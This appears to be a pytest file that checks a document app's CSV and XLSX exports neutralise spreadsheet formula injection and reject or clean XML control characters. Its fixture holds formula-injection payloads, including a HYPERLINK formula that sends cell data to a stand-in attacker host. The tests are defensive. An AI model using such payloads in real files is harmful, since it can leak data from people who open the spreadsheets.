"""Exports that cannot run formulas, and text that XML can hold (issue 12, points 4 and 5)."""

from __future__ import annotations

import csv
import io

import pytest
from hostile_web import make_users, pdf_with_fields, sign_in
from openpyxl import load_workbook

from docgen.store.database import db
from docgen.store.models import Blob, Record

pytestmark = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&D2)'
ATTACK = {
    HYPERLINK: "Ana",
    "sum": "+SUM(1,2)",
    "at": "@cmd",
    "minus": "-2+3",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
    "city": "Timi\x0bsoara",
    "plain": "Timișoara",
}


def _exported(client, fmt: str) -> tuple[list[str], list[list[object]]]:
    response = client.get(f"/records/export.{fmt}")
    assert response.status_code == 200, response.text[:500]
    if fmt == "csv":
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
        return rows[0], rows[1:]
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.active
    cells = list(sheet.iter_rows())
    assert all(c.data_type != "f" for row in cells for c in row), "a formula was written"
    return [c.value for c in cells[0]], [[c.value for c in row] for row in cells[1:]]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_exports_neutralise_formulas_in_headings_and_cells(app, client, make_key, upload, fmt):
    response = upload(client, make_key("uploads"), ("evil.pdf", pdf_with_fields(ATTACK)))
    assert response.status_code == 201, response.json
    make_users(app)
    sign_in(client, "viewer")
    header, rows = _exported(client, fmt)
    assert f"'{HYPERLINK}" in header and HYPERLINK not in header
    row = dict(zip(header, rows[0], strict=True))
    assert row[f"'{HYPERLINK}"] == "Ana"
    assert row["sum"] == "'+SUM(1,2)" and row["at"] == "'@cmd" and row["minus"] == "'-2+3"
    # A tab or a carriage return before the '=' does not make it safe.
    assert row["tab"].startswith("'") and row["cr"].startswith("'")
    assert row["plain"] == "Timișoara"
    # Word's soft line break was stored as a line break when the form was read.
    assert row["city"] == "Timi\nsoara"


def test_exports_do_not_fail_on_values_stored_before_the_rules(app, client):
    """A record kept by an older version, with characters XML 1.0 cannot hold."""
    make_users(app)
    with app.app_context():
        db.session.add(Blob(sha256="a" * 64, size=1, media_type="application/pdf"))
        db.session.add(
            Record(
                sha256="a" * 64,
                filename="old\r\n.pdf",
                status="needs_review",
                values={"city": "Timi\x0bsoara", "bell\x07": "a\x00b\x1fc", "formula": "=1+1"},
                issues={"items": []},
                signatures={"items": []},
            )
        )
        db.session.commit()
    sign_in(client, "officer")
    header, rows = _exported(client, "xlsx")
    row = dict(zip(header, rows[0], strict=True))
    assert row["city"] == "Timi\nsoara" and row["bell"] == "abc" and row["formula"] == "'=1+1"
    header, rows = _exported(client, "csv")
    assert dict(zip(header, rows[0], strict=True))["bell"] == "abc"


def test_payload_text_xml_cannot_hold_is_422_naming_the_field(client, admin, sample):
    data = sample("certificate_of_attendance")
    bad = {**data, "participant": {**data["participant"], "family_name": "Pop\x01"}}
    response = client.post(
        "/api/v1/documents",
        headers=admin,
        json={"kind": "certificate_of_attendance", "lang": "ro", "data": bad},
    )
    assert response.status_code == 422
    assert response.json["errors"] == [
        {
            "pointer": "/data/participant/family_name",
            "message": "must not contain the control character U+0001",
            "code": "control_character",
            "params": {"char": "U+0001"},
        }
    ]
    # Word's soft line break in a one-line field is a space: the DOCX opens.
    soft = {**data, "participant": {**data["participant"], "family_name": "Pop\x0bIonescu"}}
    made = client.post(
        "/api/v1/documents",
        headers=admin,
        json={"kind": "certificate_of_attendance", "lang": "ro", "data": soft},
    )
    assert made.status_code == 201, made.json
    from docx import Document

    xml = Document(io.BytesIO(made.data)).element.xml
    assert "Pop Ionescu" in xml and "\x0b" not in xml


def test_corrections_with_control_characters_are_refused(client, make_key, upload):
    uploader = make_key("uploads", "records:read", "records:write")
    record = upload(client, uploader, ("f.pdf", pdf_with_fields({"city": "Arad"})))
    record_id = record.json["uploads"][0]["record"]["id"]
    response = client.patch(
        f"/api/v1/records/{record_id}", headers=uploader, json={"values": {"city": "Ar\x1bad"}}
    )
    assert response.status_code == 422
    assert response.json["errors"][0]["pointer"] == "/values/city"
